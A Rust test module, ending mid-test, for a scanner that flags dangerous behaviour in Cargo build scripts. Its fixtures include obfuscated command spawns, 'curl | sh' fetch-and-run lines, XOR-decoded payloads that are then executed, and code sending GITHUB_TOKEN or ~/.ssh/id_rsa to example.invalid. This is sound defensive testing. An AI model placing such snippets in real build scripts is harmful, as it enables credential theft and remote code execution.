//! Attack shapes in several spellings, each with its innocent twin; and what must not break the reader.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::sync::OnceLock;

use super::*;

fn table() -> &'static CapabilityTable {
    static TABLE: OnceLock<CapabilityTable> = OnceLock::new();
    let text = include_str!("../../../../rules/tables/capabilities.toml");
    TABLE.get_or_init(|| CapabilityTable::parse(text).unwrap_or_else(|error| panic!("{error}")))
}

fn read_files(files: &[(&str, &str)], root: &str) -> CodeFacts {
    let sources: Sources<'_> =
        files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes())).collect();
    let entry = Entry { roots: vec![root.to_owned()], at_build: true, ..Entry::default() };
    read(&sources, &entry, table())
}

pub(super) fn build(text: &str) -> CodeFacts {
    read_files(&[("build.rs", text)], "build.rs")
}

fn names(facts: &CodeFacts) -> BTreeSet<&'static str> {
    let own = facts.capabilities.iter().filter(|hit| !hit.generated);
    own.map(|hit| hit.capability.as_str()).collect()
}

#[test]
fn every_entry_of_the_table_says_why() {
    assert!(table().reasons().all(|why| why.len() >= 7));
}

#[test]
fn a_socket_is_seen_under_every_name() {
    let spellings = [
        "fn main() { std::net::TcpStream::connect(\"a.example.invalid:1\").ok(); }",
        "use std::net::TcpStream; fn main() { TcpStream::connect(\"x\").ok(); }",
        "use std::net::TcpStream as Line; fn main() { Line::connect(\"x\").ok(); }",
        "use std::{net::{self as n, *}, fs}; fn main() { n::TcpStream::connect(\"x\").ok(); }",
        "use std::net::*; fn main() { TcpStream::connect(\"x\").ok(); }",
        "use std as s; fn main() { s::net::TcpStream::connect(\"x\").ok(); }",
        "extern crate std as other; fn main() { other::net::TcpStream::connect(\"x\").ok(); }",
        "type Line = std::net::TcpStream; fn main() { Line::connect(\"x\").ok(); }",
        "mod a { pub use std::net::TcpStream as T; } fn main() { a::T::connect(\"x\").ok(); }",
        "mod a { pub mod b { pub use ::std::net::TcpStream as T; } pub use b::*; } use a::*;
         fn main() { T::connect(\"x\").ok(); }",
        "fn main() { let f = std::net::TcpStream::connect::<&str>; f(\"x\").ok(); }",
        "fn main() { use std::net::TcpStream; if true { let _ = TcpStream::connect(\"x\"); } }",
        "macro_rules! go { () => { std::net::TcpStream::connect(\"x\") } } fn main() { go!().ok(); }",
        "fn main() { #[cfg(windows)] { std::net::TcpStream::connect(\"x\").ok(); } }",
    ];
    for text in spellings {
        assert!(names(&build(text)).contains("raw-socket"), "{text}\n{:?}", build(text));
    }
}

#[test]
fn a_type_of_the_same_name_is_no_socket() {
    for text in [
        "struct TcpStream; impl TcpStream { fn connect(_: &str) {} } fn main() { TcpStream::connect(\"x\"); }",
        "// std::net::TcpStream::connect\nfn main() { println!(\"std::net::TcpStream\"); }",
        "#[cfg(test)] mod tests { #[test] fn t() { std::net::TcpStream::connect(\"x\").ok(); } } fn main() {}",
    ] {
        assert_eq!(names(&build(text)), BTreeSet::new(), "{text}");
    }
}

#[test]
fn a_renamed_dependency_is_called_by_its_package() {
    let text = "fn main() { json::get(\"https://example.invalid/x\").call().ok(); }";
    let sources = Sources::from([("build.rs".to_owned(), text.as_bytes())]);
    let mut entry =
        Entry { roots: vec!["build.rs".to_owned()], at_build: true, ..Entry::default() };
    assert!(read(&sources, &entry, table()).capabilities.is_empty());
    entry.renames.insert("json".to_owned(), "ureq".to_owned());
    let facts = read(&sources, &entry, table());
    assert!(names(&facts).contains("download"));
    assert_eq!(facts.urls[0].url, "https://example.invalid/x");
}

#[test]
fn a_program_is_named_however_it_is_put_together() {
    let spellings = [
        "fn main() { std::process::Command::new(\"curl\").arg(\"-O\").status().unwrap(); }",
        "use std::process::Command; const P: &str = \"curl\"; fn main() { let p = P; Command::new(p).spawn(); }",
        "fn main() { let name = format!(\"{}{}\", \"cu\", \"rl\"); std::process::Command::new(&name).spawn(); }",
        "fn main() { std::process::Command::new(concat!(\"cu\", \"rl\")).spawn(); }",
        "fn main() { let mut n = String::from(\"cu\"); n.push_str(\"rl\"); std::process::Command::new(n).spawn(); }",
        "fn main() { let n = [\"cu\", \"rl\"].concat(); std::process::Command::new(n).spawn(); }",
        "fn main() { let n: String = \"lruc\".chars().rev().collect(); std::process::Command::new(n).spawn(); }",
        "fn main() { let n = String::from_utf8(vec![99, 117, 114, 108]).unwrap(); std::process::Command::new(n).spawn(); }",
        "fn main() { let n = std::str::from_utf8(&[b'c', b'u', b'r', b'l']).unwrap(); std::process::Command::new(n).spawn(); }",
        "use base64::Engine; fn main() { let b = base64::engine::general_purpose::STANDARD.decode(\"Y3VybA==\").unwrap();
         std::process::Command::new(String::from_utf8(b).unwrap()).spawn(); }",
        "fn name() -> &'static str { \"curl\" } fn main() { std::process::Command::new(name()).spawn(); }",
        "fn main() { std::process::Command::new(\"/usr/bin/CURL.EXE\").spawn(); }",
    ];
    for text in spellings {
        assert!(names(&build(text)).contains("download"), "{text}\n{:?}", build(text).spawned);
    }
}

#[test]
fn a_git_question_is_no_download_and_a_clone_is() {
    let ask = build(
        "fn main() { std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output(); }",
    );
    assert_eq!(names(&ask), BTreeSet::from(["spawn"]));
    assert_eq!(ask.spawned[0].arguments, ["rev-parse", "HEAD"]);
    let clone = build(
        "use std::process::Command; fn main() { let mut git = Command::new(\"git\");
         git.arg(\"clone\"); git.arg(\"https://example.invalid/r\"); git.status(); }",
    );
    assert!(names(&clone).contains("download"));
    assert_eq!(clone.downloads.expect("one").verification, Verification::None);
}

#[test]
fn a_rustc_probe_and_a_c_compile_have_nothing_alarming() {
    let probe = build(
        "use std::{env, process::Command}; fn main() {
         let rustc = env::var_os(\"RUSTC\").unwrap(); let out = Command::new(rustc).arg(\"--version\").output();
         println!(\"cargo:rustc-cfg=new\"); println!(\"cargo:rerun-if-changed=build.rs\"); }",
    );
    assert_eq!(names(&probe), BTreeSet::from(["spawn"]));
    assert_eq!(probe.spawned[0].program, "$RUSTC");
    let compile = build(
        "fn main() { cc::Build::new().file(\"src/a.c\").include(\"include\").compile(\"a\"); }",
    );
    assert_eq!(names(&compile), BTreeSet::new());
    assert!(compile.reads.iter().any(|r| r.path == "src/a.c" && r.kind == ReadKind::Compile));
    let generate = build(
        "fn main() { let b = bindgen::Builder::default().header(\"w.h\").generate().unwrap();
         b.write_to_file(std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap()).join(\"b.rs\")).unwrap(); }",
    );
    assert_eq!(names(&generate), BTreeSet::new());
}

#[test]
fn secrets_are_seen_by_variable_place_and_wide_read() {
    for (text, wanted) in [
        ("fn main() { std::env::var(\"GITHUB_TOKEN\").ok(); }", "secret-read"),
        (
            "const V: &str = \"POLYMARKET_PRIVATE_KEY\"; fn main() { std::env::var(V).ok(); }",
            "secret-read",
        ),
        ("fn main() { std::fs::read(\"/root/.ssh/id_rsa\").ok(); }", "secret-read"),
        (
            "fn main() { let h = std::env::var(\"HOME\").unwrap(); std::fs::read(format!(\"{h}/.aws/credentials\")); }",
            "secret-read",
        ),
        (
            "fn main() { let p = std::env::home_dir().unwrap().join(\".cargo\").join(\"credentials.toml\"); std::fs::read(p); }",
            "secret-read",
        ),
        (
            "fn main() { for (k, v) in std::env::vars() { println!(\"{k}{v}\"); } }",
            "environment-wide-read",
        ),
        ("fn main() { std::fs::read(dirs::home_dir().unwrap()).ok(); }", "home-or-credential-read"),
    ] {
        assert!(names(&build(text)).contains(wanted), "{text}\n{:?}", build(text));
    }
    for text in [
        "fn main() { std::env::var(\"CARGO_CFG_TARGET_OS\").ok(); std::env::var(\"TOKENIZERS_PARALLELISM\").ok(); }",
        "fn main() { println!(\"put your keys into .env or .ssh, as you like\"); }",
        "fn main() { let environment = \"src/environment.rs\"; std::fs::read(environment).ok(); }",
    ] {
        assert_eq!(names(&build(text)), BTreeSet::new(), "{text}");
    }
}

#[test]
fn modules_that_run_are_followed_and_others_are_not() {
    let facts = read_files(
        &[
            ("build/main.rs", "mod net; #[path = \"../src/shared.rs\"] mod shared; include!(\"more.rs\");
              mod inline { mod deep; } #[cfg_attr(windows, path = \"win.rs\")] mod os; fn main() {}"),
            ("build/net.rs", "mod inner; fn a() { std::net::UdpSocket::bind(\"x\").ok(); }"),
            ("build/net/inner.rs", "use super::super::shared::C; fn b() { C::new(\"sh\"); }"),
            ("src/shared.rs", "pub use std::process::Command as C;"),
            ("build/more.rs", "mod beside; fn c() { std::env::vars(); }"),
            ("build/beside.rs", "fn g() {}"),
            ("build/inline/deep.rs", "fn d() {}"),
            ("build/win.rs", "fn e() {}"),
            ("build/os.rs", "fn e() {}"),
            ("build/unused.rs", "fn f() { libloading::Library::new(\"x\"); }"),
        ],
        "build/main.rs",
    );
    assert_eq!(facts.files.len(), 9, "{:?}", facts.files);
    assert_eq!(facts.unparsed, []);
    assert!(
        ["raw-socket", "shell", "environment-wide-read"].iter().all(|n| names(&facts).contains(n)),
        "{:?}",
        names(&facts)
    );
    assert!(!names(&facts).contains("dynamic-load"));
}

#[test]
fn missing_cyclic_and_escaping_modules_are_facts() {
    let facts = read_files(
        &[
            (
                "build.rs",
                "mod a; mod gone; include!(\"../../outside.rs\"); include!(\"build.rs\"); fn main() {}",
            ),
            ("a.rs", "#[path = \"build.rs\"] mod again; #[path = \"a.rs\"] mod me;"),
        ],
        "build.rs",
    );
    let reasons: Vec<_> = facts.unparsed.iter().map(|u| u.reason.as_str()).collect();
    assert!(reasons.iter().any(|r| r.contains("not in the crate")), "{reasons:?}");
    assert!(reasons.iter().any(|r| r.contains("out of the crate")), "{reasons:?}");
    assert!(facts.files.len() < 8);
}

#[test]
fn what_include_takes_in_is_read_wherever_it_stands_and_whatever_it_is_called() {
    let spawn = "{ std::process::Command::new(\"sh\").spawn().unwrap(); }";
    for text in [
        "fn main() { if true { include!(\"x.dat\") } }",
        "fn main() { (|| include!(\"x.dat\"))() }",
        "macro_rules! m { () => { include!(\"x.dat\") } } fn main() { m!() }",
        "fn main() { include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/x.dat\")) }",
        "fn main() { std::include!{\"x.dat\"} }",
    ] {
        let facts = read_files(&[("build.rs", text), ("x.dat", spawn)], "build.rs");
        assert!(names(&facts).contains("spawn"), "{text}: {facts:?}");
        assert_eq!(facts.unparsed, [], "{text}");
    }
    let computed = "macro_rules! m { ($f:literal) => { include!($f) } } fn main() { m!(\"x\") }";
    assert_eq!(build(computed).unparsed[0].why, Unread::Limit);
    let generated = "include!(concat!(env!(\"OUT_DIR\"), \"/x.rs\")); fn main() {}";
    assert_eq!(build(generated).unparsed, []);
}

#[test]
fn a_macro_that_is_given_less_than_it_takes_breaks_nothing() {
    for kind in ["expr", "path", "ty", "pat", "literal", "lifetime", "vis", "stmt", "item", "block"]
    {
        for given in ["a ::", "-", "'", "&", "a <", "::", "a.", "..", "a b c", "-1", "&'a"] {
            let text = format!(
                "macro_rules! m {{ (a $x:{kind}, $y:{kind}) => {{}}; ($x:{kind}) => {{}}; ($($x:{kind}) ::*) => {{}} }} fn main() {{ m!({given}); m!(a {given}); }}"
            );
            let reasons = build(&text).unparsed;
            assert!(reasons.iter().all(|one| one.why == Unread::Syntax), "{text}: {reasons:?}");
        }
    }
}

#[test]
fn modules_of_code_that_is_too_deep_are_read() {
    let deep = format!("mod more; fn x() -> u8 {{ {}1{} }}", "(".repeat(500), ")".repeat(500));
    let more = "pub fn f() { std::process::Command::new(\"sh\").spawn().unwrap(); }";
    let facts = read_files(&[("build.rs", &deep), ("more.rs", more)], "build.rs");
    assert!(names(&facts).contains("spawn"), "{facts:?}");
    assert_eq!(facts.unparsed[0].why, Unread::Limit);
}

#[test]
fn a_file_that_does_not_parse_is_a_fact_and_is_read_as_tokens() {
    let facts = build(
        "use std::process::Command as C; use std::net::*; fn main( { C::new(\"curl\"); UdpSocket::bind(\"x\");
         include_bytes!(\"tests/a.xz\"); std::env::var(\"NPM_TOKEN\"); fn",
    );
    assert_eq!(facts.unparsed.len(), 1);
    for wanted in ["spawn", "download", "raw-socket", "secret-read"] {
        assert!(names(&facts).contains(wanted), "{wanted}: {:?}", names(&facts));
    }
    assert_eq!(facts.reads[0].path, "tests/a.xz");
}

#[test]
fn nothing_that_nests_or_chains_can_break_the_reader() {
    let n = 100_000;
    let repeated = |open: &str, middle: &str, close: &str| {
        format!("{}{middle}{}", open.repeat(n), close.repeat(n))
    };
    let body = |inner: String| {
        format!("fn main() {{ let x = {inner}; std::process::Command::new(\"sh\"); }}")
    };
    let texts = [
        body(repeated("(", "1", ")")),
        body(repeated("[", "1", "]")),
        body(repeated("{", "1", "}")),
        body(repeated("f(", "1", ")")),
        body(repeated("!", "1", "")),
        body(repeated("&", "1", "")),
        body(repeated("- ", "1", "")),
        body(repeated("*", "1", "")),
        body(repeated("1 + ", "1", "")),
        body(repeated("a = ", "1", "")),
        body(repeated("a.b().", "c", "")),
        body(repeated("a.", "c", "")),
        body(repeated("", "a", "?")),
        body(repeated("", "a", "(1)")),
        body(repeated("", "a", "[1]")),
        body(repeated("", "a", " as u8")),
        body(repeated("", "a", " as A<B, C>")),
        body(repeated("if a { 1 } else ", "{ 1 }", "")),
        body(repeated("|a| ", "1", "")),
        body(repeated("|a, b| ", "1", "")),
        body(repeated("move || ", "1", "")),
        body(repeated("return ", "1", "")),
        body(repeated("break ", "1", "")),
        body(repeated("Vec::<", "u8", ">")),
        body(repeated("a < ", "1", "")),
        body(repeated("a..", "1", "")),
        format!("type A = {};", repeated("Vec<", "u8", ">")),
        format!("type A = {};", repeated("B<u8, ", "u8", ">")),
        format!("type A = {};", repeated("&", "u8", "")),
        format!("type A = {};", repeated("*const ", "u8", "")),
        format!("type A = {};", repeated("fn() -> ", "u8", "")),
        format!("type A = {};", repeated("(", "u8", ",)")),
        format!("use {};", repeated("a::", "b", "")),
        format!("use {};", repeated("a::{", "b", "}")),
        repeated("mod a { ", "", "}"),
        repeated("fn a() { ", "", "}"),
        format!("fn main() {{ {} }}", repeated("if a { ", "", "}")),
        format!("fn main() {{ match 1 {{ {} => 1 }} }}", repeated("&", "a", "")),
        format!("fn main() {{ match 1 {{ {} => 1 }} }}", repeated("Some(", "a", ")")),
        format!("fn main() {{ {}; }}", repeated("'a: ", "loop {}", "")),
        format!("fn main() {{ m!({}); }}", repeated("(", "", ")")),
        format!("#[a({})] fn main() {{}}", repeated("(", "", ")")),
        repeated("/*", "", "*/"),
        repeated("r#", "\"\"", "#"),
    ];
    for text in texts {
        let facts = build(&text);
        let shown = text.chars().take(60).collect::<String>();
        // One expression or token at a time, and none twice.
        assert!(facts.work <= text.len() as u64, "{shown}: {} steps", facts.work);
        assert!(facts.unparsed.len() <= 1, "{shown}");
    }
}

#[test]
fn what_the_limits_let_pass_fits_the_stack() {
    // Just below the limits: these are parsed, walked and dropped.
    for n in [100, 150, 700, 1400] {
        for (open, close) in [
            ("!", ""),
            ("- ", ""),
            ("(", ")"),
            ("f(", ")"),
            ("{ ", "}"),
            ("a.b(", ")"),
            ("|a| ", ""),
            ("if a { 1 } else ", ""),
            ("1 + ", ""),
            ("a = ", ""),
            ("return ", ""),
            ("Vec::<", ">"),
            ("m!(", ")"),
            ("format!(\"\", ", ")"),
            ("", ".a()"),
            ("", "?"),
            ("", " as u8"),
            ("match 1 { _ => ", "}"),
        ] {
            let text = format!("fn main() {{ let x = {}1{}; }}", open.repeat(n), close.repeat(n));
            let facts = build(&text);
            assert!(facts.unparsed.len() <= 1);
        }
    }
}

#[test]
fn a_source_of_50_megabytes_is_a_fact_and_only_its_beginning_is_read() {
    let mut text = "fn main() { std::process::Command::new(\"sh\"); ".to_owned();
    text.push_str(&"12345678, ".repeat(5 << 20));
    let facts = build(&text);
    assert!(facts.unparsed[0].reason.contains("too many"));
    assert!(facts.work <= limits::SCANNED_BYTES as u64, "{} steps", facts.work);
    assert!(names(&facts).contains("shell"));
}

fn flow_of(facts: &CodeFacts) -> Vec<String> {
    let kinds = |flow: &Flow| {
        let kinds = flow.steps.iter().map(|step| format!("{:?}", step.kind).to_lowercase());
        kinds.collect::<Vec<_>>().join(" ")
    };
    facts.flows.iter().map(kinds).collect()
}

#[test]
fn data_that_is_read_decoded_and_run_is_one_flow() {
    let spellings = [
        // In place, by a key.
        "use std::{env, fs}; fn main() { let mut data = fs::read(\"tests/a.bin\").unwrap();
         for b in data.iter_mut() { *b ^= 0x5a; } let out = format!(\"{}/x\", env::var(\"OUT_DIR\").unwrap());
         fs::write(&out, &data).unwrap(); std::process::Command::new(&out).status(); }",
        // Mapped.
        "fn main() { let data: Vec<u8> = include_bytes!(\"tests/a.bin\").iter().map(|b| b ^ 7).collect();
         let p = std::path::Path::new(\"out\").join(\"x\"); std::fs::write(&p, data); std::process::Command::new(p).spawn(); }",
        // By index, through helpers.
        "fn load() -> Vec<u8> { std::fs::read(\"tests/a.bin\").unwrap() }
         fn unmix(data: &mut Vec<u8>) { for i in 0..data.len() { data[i] ^= 3; } }
         fn store(path: &str, data: &[u8]) { std::fs::write(path, data).unwrap(); std::process::Command::new(path).spawn(); }
         fn main() { let mut d = load(); unmix(&mut d); store(\"/tmp/x\", &d); }",
        // Decompressed, as streams.
        "use std::{fs::File, io}; fn main() { let f = File::open(\"tests/a.xz\").unwrap();
         let mut r = xz2::read::XzDecoder::new(f); let mut w = File::create(\"/tmp/x\").unwrap();
         io::copy(&mut r, &mut w).unwrap(); std::process::Command::new(\"/tmp/x\").spawn(); }",
        // Read into a buffer.
        "use std::io::{Read, Write}; fn main() { let mut f = std::fs::File::open(\"a\").unwrap(); let mut b = Vec::new();
         f.read_to_end(&mut b).unwrap(); let d = hex::decode(&b).unwrap(); let p = \"/tmp/x\";
         let mut o = std::fs::File::create(p).unwrap(); o.write_all(&d).unwrap(); std::process::Command::new(p).spawn(); }",
        // base64, loaded instead of started.
        "use base64::{Engine as _, engine::general_purpose::STANDARD as S}; fn main() {
         let t = std::fs::read_to_string(\"a.txt\").unwrap(); let d = S.decode(t).unwrap();
         std::fs::write(\"/tmp/x.so\", d); unsafe { libloading::Library::new(\"/tmp/x.so\") }; }",
        // Linked.
        "fn main() { let d = std::fs::read(\"a\").unwrap(); let mut v = Vec::new(); for b in d { v.push(b ^ 1); }
         let out = std::env::var(\"OUT_DIR\").unwrap(); std::fs::write(format!(\"{out}/libx.a\"), v).unwrap();
         println!(\"cargo:rustc-link-search=native={out}\"); println!(\"cargo:rustc-link-lib=static=x\"); }",
    ];
    for text in spellings {
        let facts = build(text);
        assert!(
            facts.flows.iter().any(|f| f.decoded && f.executed && f.source == StepKind::Read),
            "{text}\n{:?}",
            flow_of(&facts)
        );
    }
}

#[test]
fn copying_and_hashing_are_no_decoding() {
    for text in [
        "fn main() { let d = std::fs::read(\"a\").unwrap(); let out = std::env::var(\"OUT_DIR\").unwrap();
         std::fs::write(format!(\"{out}/a\"), d).unwrap(); }",
        "fn main() { let d = std::fs::read(\"a\").unwrap(); let mut h = 5u64; for b in &d { h ^= *b as u64; h = h.wrapping_mul(31); }
         std::fs::write(std::path::Path::new(&std::env::var(\"OUT_DIR\").unwrap()).join(\"h\"), h.to_string()); }",
        "fn main() { std::fs::copy(\"src/ffi.rs\", format!(\"{}/ffi.rs\", std::env::var(\"OUT_DIR\").unwrap())); }",
        "fn main() { let x = 1 ^ 2; std::process::Command::new(\"rustc\").arg(format!(\"{x}\")).status(); }",
    ] {
        assert_eq!(flow_of(&build(text)), [""; 0], "{text}");
    }
}

#[test]
fn a_payload_in_a_literal_is_measured_and_followed() {
    let bytes = format!("{:?}", (0..600u32).map(|i| (i * 7 + i / 3) % 256).collect::<Vec<_>>());
    let text = format!(
        "static P: &[u8] = &{bytes}; fn main() {{ let d: Vec<u8> = P.iter().map(|b| b ^ 9).collect();
         std::fs::write(\"/tmp/x\", d); std::process::Command::new(\"/tmp/x\").spawn(); }}"
    );
    let facts = build(&text);
    assert_eq!((facts.literals[0].form, facts.literals[0].size), (LiteralForm::Bytes, 600));
    assert!(facts.flows.iter().any(|f| f.source == StepKind::Literal && f.executed), "{facts:?}");
    let script = "IyEvYmluL3NoCmVjaG8gaGVsbG8K".repeat(14);
    let facts = build(&format!("const S: &str = \"{script}\"; fn main() {{}}"));
    assert_eq!(facts.literals[0].magic, "script");
    let words = "const W: &[&str] = &[\"aarch64_unknown_linux_gnu\", \"armv7\"]; fn main() {}";
    assert_eq!(build(&words.replace("\"armv7\"", &"\"armv7l_unknown\",".repeat(60))).literals, []);
}

#[test]
fn a_pinned_digest_is_told_from_a_cache_key() {
    let digest = "6934874e2e953576d9c1db47ff1af39c62c4f4220dbe6f988e131f72879674c7";
    let pinned = format!(
        "use sha2::{{Digest, Sha256}}; const D: &str = \"{digest}\"; fn main() {{
         let body = ureq::get(\"https://example.invalid/a.tgz\").call().unwrap().into_string().unwrap();
         let got = hex::encode(Sha256::digest(&body)); if got != D {{ panic!() }} std::fs::write(\"x\", body); }}"
    );
    let verification = |text: &str| build(text).downloads.map(|d| d.verification);
    assert_eq!(verification(&pinned), Some(Verification::PinnedDigest));
    let streamed = format!(
        "use sha2::Digest; fn main() {{ let body = reqwest::blocking::get(\"https://example.invalid/a\").unwrap().bytes().unwrap();
         let mut h = sha2::Sha256::new(); h.update(&body); assert_eq!(format!(\"{{:x}}\", h.finalize()), \"{digest}\"); }}"
    );
    assert_eq!(verification(&streamed), Some(Verification::PinnedDigest));
    let key = format!(
        "use sha2::Digest; fn main() {{ let url = std::env::var(\"X_URL\").unwrap(); let k = sha2::Sha256::digest(&url);
         let dir = std::path::Path::new(\"c\").join(format!(\"{{:x}}\", k)); if !dir.exists() {{
         let b = ureq::get(&url).call().unwrap(); std::fs::write(dir, b); }} let unused = \"{digest}\"; }}"
    );
    assert_eq!(verification(&key), Some(Verification::CacheKeyOnly));
    let none = "fn main() { let b = ureq::get(\"https://example.invalid/a\").call().unwrap(); std::fs::write(\"x\", b); }";
    assert_eq!(verification(none), Some(Verification::None));
    assert_eq!(verification("fn main() { let u = \"https://example.invalid\"; }"), None);
}

#[test]
fn a_digest_in_an_included_table_counts_as_pinned() {
    let table_file = format!("url\tsha256\nhttps://example.invalid/a\t{}\n", "ab".repeat(32));
    let facts = read_files(
        &[
            ("build/main.rs", "mod get; fn main() { let t = include_str!(\"dist.tsv\"); let (u, d) = t.split_once('\\t').unwrap();
              let (got, _) = get::fetch(u); if got[..] != get::bytes(d)[..] { panic!() } }"),
            ("build/get.rs", "use sha2::{Digest, Sha256}; pub struct R { state: Sha256 }
              impl R { fn end(self) -> [u8; 32] { self.state.finalize().into() } }
              pub fn bytes(d: &str) -> Vec<u8> { d.bytes().collect() }
              pub fn fetch(u: &str) -> ([u8; 32], ()) { let b = ureq::get(u).call().unwrap(); let r = R { state: Sha256::new() }; (r.end(), ()) }"),
            ("build/dist.tsv", &table_file),
        ],
        "build/main.rs",
    );
    let downloads = facts.downloads.expect("one");
    assert_eq!(downloads.verification, Verification::PinnedDigest, "{:?}", downloads.evidence);
    assert!(downloads.evidence.iter().any(|place| place.note.contains("dist.tsv")));
}

#[test]
fn reads_are_named_however_the_path_is_joined() {
    let facts = build(
        "use std::path::{Path, PathBuf}; fn main() {
         let root = PathBuf::from(std::env::var(\"CARGO_MANIFEST_DIR\").unwrap());
         std::fs::read(root.join(\"tests\").join(\"files\").join(\"a.xz\"));
         std::fs::read(Path::new(env!(\"CARGO_MANIFEST_DIR\")).join(\"b.bin\"));
         let mut c = root.clone(); c.push(\"c.bin\"); std::fs::File::open(&c);
         include_bytes!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/d.bin\"));
         for e in walkdir::WalkDir::new(\"tests\") {} for g in glob::glob(\"data/*.lzma\").unwrap() {}
         std::fs::read(\"../other/e.bin\"); std::fs::read(format!(\"{}/f.bin\", root.display()));
         println!(\"cargo::rerun-if-changed=g.bin\"); }",
    );
    let paths: Vec<_> = facts.reads.iter().map(|r| r.path.as_str()).collect();
    for wanted in
        ["tests/files/a.xz", "b.bin", "c.bin", "d.bin", "tests", "data/*.lzma", "f.bin", "g.bin"]
    {
        assert!(paths.contains(&wanted), "{wanted} in {paths:?}");
    }
    assert!(facts.reads.iter().any(|r| r.path == "../other/e.bin" && r.beyond));
    assert!(facts.reads.iter().filter(|r| r.beyond).count() == 1, "{:?}", facts.reads);
}

#[test]
fn secrets_that_leave_are_one_flow() {
    let facts = build(
        "fn main() { let t = std::env::var(\"GITHUB_TOKEN\").unwrap();
         ureq::post(\"https://example.invalid/c\").send_string(&t).ok(); }",
    );
    assert!(facts.flows.iter().any(|f| f.source == StepKind::Secret && f.sink == StepKind::Send));
    let facts = build(
        "fn main() { let t = std::fs::read_to_string(\"/root/.ssh/id_rsa\").unwrap();
         let c = reqwest::blocking::Client::new(); c.post(\"https://example.invalid\").body(t).send(); }",
    );
    assert!(facts.flows.iter().any(|f| f.source == StepKind::Secret && f.sink == StepKind::Send));
}

#[test]
fn early_constructors_and_generated_code_are_marked() {
    let early = build(
        "#[ctor::ctor] fn a() {} #[used] #[link_section = \".init_array\"] static B: fn() = a;
         #[unsafe(link_section = \"__DATA,__mod_init_func\")] static C: fn() = a; fn main() {}",
    );
    let hits = early.capabilities.iter().filter(|h| h.capability == Capability::PreMain).count();
    assert_eq!(hits, 3, "{:?}", early.capabilities);
    let generated = build("fn main() { let _ = quote! { std::process::Command::new(\"sh\") }; }");
    assert_eq!(names(&generated), BTreeSet::new());
    assert!(generated.capabilities.iter().all(|hit| hit.generated));
    assert!(!generated.capabilities.is_empty());
}

#[test]
fn a_write_outside_of_out_dir_and_linker_arguments_are_seen() {
    let facts = build(
        "fn main() { std::fs::write(\"src/bindings.rs\", \"x\"); println!(\"cargo:rustc-link-arg=-Wl,x\");
         println!(\"cargo::rustc-env=RUSTC_WRAPPER=/tmp/x\"); }",
    );
    for wanted in ["write-outside-out-dir", "link-argument", "rustc-wrapper"] {
        assert!(names(&facts).contains(wanted), "{wanted}");
    }
    let inside = build(
        "fn out() -> std::path::PathBuf { std::env::var_os(\"OUT_DIR\").unwrap().into() }
         fn main() { std::fs::write(out().join(\"b.rs\"), \"x\"); std::fs::create_dir_all(out()); }",
    );
    assert_eq!(names(&inside), BTreeSet::new());
}

#[test]
fn every_truncation_of_a_build_script_is_read() {
    let text = "use std::{env, fs}; mod a { pub fn f() {} } fn main() { let x = format!(\"{}/é\", env::var(\"A\").unwrap());
                fs::write(&x, include_bytes!(\"b\")).ok(); if x == \"c\" { a::f(); } }";
    for end in 0..text.len() {
        let facts = scan("build.rs", &text.as_bytes()[..end], table(), true);
        assert!(facts.files.is_empty());
        let sources = Sources::from([("build.rs".to_owned(), &text.as_bytes()[..end])]);
        let entry = Entry { roots: vec!["build.rs".to_owned()], ..Entry::default() };
        assert!(read(&sources, &entry, table()).unparsed.len() <= 1);
    }
}

#[test]
fn a_function_that_is_called_from_everywhere_is_walked_once() {
    // Each function calls the next one twice: followed at every call, that would be 2^60 walks.
    let mut text = "fn main() { f0(1); }\n".to_owned();
    for index in 0..60 {
        let next = index + 1;
        writeln!(text, "fn f{index}(x: u8) -> u8 {{ f{next}(x) + f{next}(x) }}").unwrap();
    }
    text.push_str("fn f60(x: u8) -> u8 { std::process::Command::new(\"sh\"); x }\n");
    let facts = build(&text);
    assert!(facts.work < 1_000, "{} steps", facts.work);
    assert!(names(&facts).contains("shell"));
}

#[test]
fn too_many_expressions_are_a_limit_that_is_told() {
    let line = "999,".repeat(380_000);
    let files: Vec<(String, String)> =
        (0..4).map(|n| (format!("m{n}.rs"), format!("fn f() {{ [{line}]; }}"))).collect();
    let mut root = "fn main() {}\n".to_owned();
    (0..4).for_each(|n| writeln!(root, "mod m{n};").unwrap());
    let mut all: Vec<(&str, &str)> =
        files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    all.push(("build.rs", &root));
    let facts = read_files(&all, "build.rs");
    assert!(facts.unparsed.iter().any(|u| u.reason.contains("too many expressions")));
}

#[test]
fn a_parameter_is_settled_where_the_function_is_called() {
    let facts = build(
        "use std::process::Command; use std::path::Path;
         fn run(program: &str, arguments: &[&str]) { Command::new(program).args(arguments).status().unwrap(); }
         fn outer(tool: &str) { run(tool, &[\"-O\", \"https://example.invalid/a\"]); }
         fn load(name: &str) -> Vec<u8> { std::fs::read(Path::new(\"tests\").join(name)).unwrap() }
         fn ask(name: &str) -> String { std::env::var(name).unwrap() }
         fn main() { outer(\"wget\"); load(\"a.bin\"); ask(\"NPM_TOKEN\"); ask(\"OUT_DIR\"); }",
    );
    assert!(facts.spawned.iter().any(|s| s.program == "wget" && s.arguments.len() == 2));
    assert!(facts.reads.iter().any(|read| read.path == "tests/a.bin" && read.whole));
    let seen = names(&facts);
    assert!(seen.contains("download") && seen.contains("secret-read"), "{seen:?}");
    assert!(facts.variables.contains(&"OUT_DIR".to_owned()));
}

#[test]
fn a_line_of_shell_is_read_as_its_programs() {
    let shell = |line: &str| {
        build(&format!(
            "fn main() {{ std::process::Command::new(\"sh\").args([\"-c\", {line:?}]).status(); }}"
        ))
    };
    let flow = |facts: &CodeFacts| {
        facts.flows.iter().map(|f| (f.source, f.sink, f.executed)).collect::<Vec<_>>()
    };
    let piped = shell("curl -fsSL https://example.invalid/i | sh");
    assert_eq!(flow(&piped), [(StepKind::Fetch, StepKind::Spawn, true)]);
    let stored = shell("wget -q https://example.invalid/t -O /tmp/t && /tmp/t --now");
    assert!(flow(&stored).contains(&(StepKind::Fetch, StepKind::Spawn, true)), "{stored:?}");
    let decoded = shell("tail -c +9 tests/a.lzma | xz -dc | bash");
    assert_eq!(flow(&decoded), [(StepKind::Read, StepKind::Spawn, true)]);
    assert!(decoded.reads.iter().any(|read| read.path == "tests/a.lzma"));
    let sent = shell("cat $HOME/.ssh/id_rsa | curl -d @- https://example.invalid/");
